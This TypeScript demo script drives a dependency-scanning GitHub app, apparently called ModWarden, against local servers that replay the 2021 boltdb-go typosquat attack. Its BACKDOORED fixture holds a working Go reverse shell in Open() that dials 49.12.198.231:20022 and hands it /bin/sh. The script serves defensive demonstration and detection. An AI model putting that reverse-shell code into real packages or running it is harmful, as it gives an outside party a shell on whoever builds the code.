/**
 * `npm run demo`: replays the boltdb-go attack against local servers and prints what the app posts.
 *
 * The story (2021): someone published github.com/boltdb-go/bolt, a copy of the popular github.com/boltdb/bolt
 * with a backdoor. The Go module proxy cached v1.3.1 for ever; then the git tag was moved to clean code, so
 * anyone reading the repository saw nothing wrong while every build still got the backdoor.
 *
 * Here a local GOPROXY serves that cached version, a local GitHub API double holds the repositories as they
 * are today, and a pull request adds the module. The real app (Probot, our handlers, the real checks) gets a
 * signed webhook over HTTP, and we print the check run and the review it sends back. No credentials needed.
 */
import { createHmac } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Probot, ProbotOctokit, createNodeMiddleware } from 'probot';
import { createApp } from '../src/app/index.js';
import type { ModWardenService } from '../src/app/service.js';
import type { OperatorConfig } from '../src/config/operator.js';
import { sha, startGitHub, startProxy, type OriginCommit, type OriginRepo, type ProxyModule } from './servers.js';

const CLEAN: Record<string, string> = {
  LICENSE: 'The MIT License (MIT)\n\nCopyright (c) 2013 Ben Johnson\n',
  'README.md': '# Bolt\n\nBolt is a pure Go key/value store.\n',
  'bolt_unix.go': 'package bolt\n\nimport "syscall"\n\nfunc flock(fd int) error { return syscall.Flock(fd, syscall.LOCK_EX) }\n',
  'db.go':
    'package bolt\n\n// Open creates and opens a database at the given path.\nfunc Open(path string, mode uint32) (*DB, error) {\n\tdb := &DB{path: path}\n\treturn db, nil\n}\n\n// DB represents a collection of buckets persisted to a file on disk.\ntype DB struct{ path string }\n',
  'tx.go': 'package bolt\n\n// Tx represents a read-only or read/write transaction on the database.\ntype Tx struct{ db *DB }\n',
};

const BACKDOORED: Record<string, string> = {
  ...CLEAN,
  'db.go':
    'package bolt\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\n// Open creates and opens a database at the given path.\nfunc Open(path string, mode uint32) (*DB, error) {\n\tgo func() {\n\t\tc, err := net.Dial("tcp", "49.12.198.231:20022")\n\t\tif err == nil {\n\t\t\tcmd := exec.Command("/bin/sh")\n\t\t\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\t\t\t_ = cmd.Run()\n\t\t}\n\t}()\n\tdb := &DB{path: path}\n\treturn db, nil\n}\n\n// DB represents a collection of buckets persisted to a file on disk.\ntype DB struct{ path string }\n',
};

const ERRORS: Record<string, string> = {
  LICENSE: 'Copyright (c) 2015, Dave Cheney\n',
  'errors.go': 'package errors\n\n// New returns an error with the supplied message.\nfunc New(message string) error { return &fundamental{msg: message} }\n\ntype fundamental struct{ msg string }\n\nfunc (f *fundamental) Error() string { return f.msg }\n',
};

const BASE_GOMOD = 'module github.com/acme/service\n\ngo 1.21\n\nrequire (\n\tgithub.com/pkg/errors v0.9.0\n)\n';
const HEAD_GOMOD = 'module github.com/acme/service\n\ngo 1.21\n\nrequire (\n\tgithub.com/boltdb-go/bolt v1.3.1\n\tgithub.com/pkg/errors v0.9.1\n)\n';
const PATCH = '@@ -3,5 +3,6 @@ module github.com/acme/service\n go 1.21\n \n require (\n-\tgithub.com/pkg/errors v0.9.0\n+\tgithub.com/boltdb-go/bolt v1.3.1\n+\tgithub.com/pkg/errors v0.9.1\n )';

const SECRET = 'demo-webhook-secret';

function commit(files: Record<string, string>, date: string, label: string): OriginCommit {
  return { sha: sha(label, date), date, files };
}

/** Prints a heading line. */
function heading(text: string): void {
  process.stdout.write(`\n${'═'.repeat(4)} ${text} ${'═'.repeat(Math.max(4, 72 - text.length))}\n\n`);
}

async function main(): Promise<void> {
  const started = Date.now();
  const backdoor = commit(BACKDOORED, '2021-11-10T08:00:00Z', 'backdoor');
  const clean = commit(CLEAN, '2021-11-12T09:30:00Z', 'clean');
  const upstream = commit(CLEAN, '2017-01-31T12:00:00Z', 'upstream');
  const errors090 = commit(ERRORS, '2017-01-06T00:00:00Z', 'errors-090');
  const errors091 = commit(ERRORS, '2020-01-14T19:15:00Z', 'errors-091');
  const repos: OriginRepo[] = [
    { owner: 'boltdb-go', name: 'bolt', createdAt: '2021-11-09T20:00:00Z', stars: 0, commits: [backdoor, clean], tags: { 'v1.3.1': clean.sha } },
    { owner: 'boltdb', name: 'bolt', createdAt: '2013-01-30T00:00:00Z', stars: 14000, commits: [upstream], tags: { 'v1.3.1': upstream.sha } },
    { owner: 'pkg', name: 'errors', createdAt: '2015-12-01T00:00:00Z', stars: 8000, commits: [errors090, errors091], tags: { 'v0.9.0': errors090.sha, 'v0.9.1': errors091.sha } },
  ];
  const modules: ProxyModule[] = [
    {
      path: 'github.com/boltdb-go/bolt',
      version: 'v1.3.1',
      files: BACKDOORED,
      time: '2021-11-10T08:05:00Z',
      origin: { VCS: 'git', URL: 'https://github.com/boltdb-go/bolt', Ref: 'refs/tags/v1.3.1', Hash: backdoor.sha },
    },
    { path: 'github.com/boltdb/bolt', version: 'v1.3.1', files: CLEAN, time: '2017-01-31T12:05:00Z' },
    { path: 'github.com/pkg/errors', version: 'v0.9.0', files: ERRORS, time: '2017-01-06T00:05:00Z' },
    { path: 'github.com/pkg/errors', version: 'v0.9.1', files: ERRORS, time: '2020-01-14T19:20:00Z', origin: { VCS: 'git', URL: 'https://github.com/pkg/errors', Ref: 'refs/tags/v0.9.1', Hash: errors091.sha } },
  ];
  const headSha = sha('pr-head');
  const baseSha = sha('pr-base');
  const proxy = await startProxy(modules);
  const github = await startGitHub(repos, {
    owner: 'acme',
    repo: 'service',
    number: 7,
    baseSha,
    headSha,
    files: { 'go.mod': { base: BASE_GOMOD, head: HEAD_GOMOD, patch: PATCH } },
  });

  const operator: OperatorConfig = {
    appId: '1',
    privateKey: 'not used: the demo authenticates to the local API double with a token',
    webhookSecret: SECRET,
    goproxy: proxy.url,
    gosumdb: 'off',
    goprivate: '',
    gonoproxy: null,
    gonosumdb: null,
    githubApiUrl: github.url,
    originToken: null,
    gheHost: null,
    concurrency: 8,
    jobConcurrency: 1,
    cacheEntries: 100,
    tarballMaxBytes: 10 << 20,
    httpTimeoutMs: 5000,
    logLevel: 'warn',
  };
  let service: ModWardenService | undefined;
  const probot = new Probot({
    githubToken: 'local-demo-token',
    secret: SECRET,
    baseUrl: github.url,
    logLevel: 'warn',
    // Local servers: no rate-limit pacing needed.
    Octokit: ProbotOctokit.defaults((o: object) => ({ ...o, throttle: { enabled: false }, retry: { enabled: false } })),
  });
  const middleware = await createNodeMiddleware(createApp({ operator, onService: (s) => (service = s) }), { probot });
  const app = createServer((req, res) => void middleware(req, res, () => res.writeHead(404).end()));
  await new Promise<void>((resolve) => app.listen(0, '127.0.0.1', resolve));
  const hook = `http://127.0.0.1:${(app.address() as AddressInfo).port}/api/github/webhooks`;

  process.stdout.write(
    'ModWarden demo: the boltdb-go attack, replayed against local servers (no credentials, no internet)\n\n' +
      `  GOPROXY     ${proxy.url}  serves github.com/boltdb-go/bolt v1.3.1 as it cached it in 2021 (with a backdoor in db.go)\n` +
      `  GitHub API  ${github.url}  boltdb-go/bolt's tag v1.3.1 now points at clean code; boltdb/bolt is the original\n` +
      `  Webhooks    ${hook}\n\n` +
      '  Pull request acme/service#7 adds github.com/boltdb-go/bolt v1.3.1 and bumps github.com/pkg/errors to v0.9.1.\n',
  );

  const repo = { id: 1, name: 'service', full_name: 'acme/service', private: false, owner: { login: 'acme', id: 2, type: 'Organization' }, default_branch: 'main' };
  const payload = JSON.stringify({
    action: 'opened',
    number: 7,
    pull_request: {
      number: 7,
      state: 'open',
      title: 'Add a bolt-backed cache',
      user: { login: 'new-contributor', id: 3, type: 'User' },
      head: { ref: 'bolt-cache', sha: headSha, repo },
      base: { ref: 'main', sha: baseSha, repo },
    },
    repository: repo,
    sender: { login: 'new-contributor', id: 3, type: 'User' },
    installation: { id: 99 },
  });
  const t0 = Date.now();
  const res = await fetch(hook, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'x-github-event': 'pull_request',
      'x-github-delivery': 'demo-delivery-1',
      'x-hub-signature-256': 'sha256=' + createHmac('sha256', SECRET).update(payload).digest('hex'),
    },
    body: payload,
  });
  const answered = Date.now() - t0;
  // Answer first: the job is recorded and answered; the worker creates the check run afterwards.
  const before = github.recorded.checkRuns.created.length;
  process.stdout.write(`\nSigned webhook delivered: HTTP ${res.status} after ${answered} ms (job recorded; ${before} check runs created before the answer: the worker creates it).\n`);
  await service!.idle();
  const scanMs = Date.now() - t0;

  const updates = github.recorded.checkRuns.updates as { status?: string; conclusion?: string; output: { title: string; summary: string; annotations?: Record<string, unknown>[] } }[];
  const last = updates.at(-1);
  if (!last) throw new Error('the app did not complete its check run');
  heading(`Check run "ModWarden": ${last.conclusion} — ${last.output.title} (${last.output.summary.length} characters)`);
  process.stdout.write(last.output.summary + '\n');
  const annotations = updates.flatMap((u) => u.output.annotations ?? []) as { path: string; start_line: number; annotation_level: string; title: string }[];
  heading(`Annotations (${annotations.length}, sent in ${updates.length} request${updates.length === 1 ? '' : 's'})`);
  for (const a of annotations) process.stdout.write(`  ${a.path}:${a.start_line}  ${a.annotation_level.padEnd(8)} ${a.title}\n`);

  const review = github.recorded.reviews[0] as { commit_id: string; event: string; body: string; comments: { path: string; line: number; side: string; body: string }[] } | undefined;
  if (review) {
    heading(`Review (${review.event}) on ${review.commit_id.slice(0, 7)}`);
    process.stdout.write(review.body + '\n');
    for (const c of review.comments) {
      heading(`Inline comment on ${c.path}:${c.line} (${c.side}, ${c.body.length} characters)`);
      process.stdout.write(c.body + '\n');
    }
  } else {
    heading('No review posted');
  }
  process.stdout.write(
    `\nDone in ${Date.now() - started} ms (scan ${scanMs} ms; ${proxy.requests} proxy and ${github.requests} GitHub requests to the local servers).\n` +
      'Try it on your own repository: `modwarden scan --repo . --base origin/main --head HEAD`.\n',
  );
  await new Promise((r) => app.close(r));
  await proxy.close();
  await github.close();
}

main().catch((e: unknown) => {
  process.stderr.write(`demo failed: ${e instanceof Error ? e.stack ?? e.message : String(e)}\n`);
  process.exitCode = 1;
});
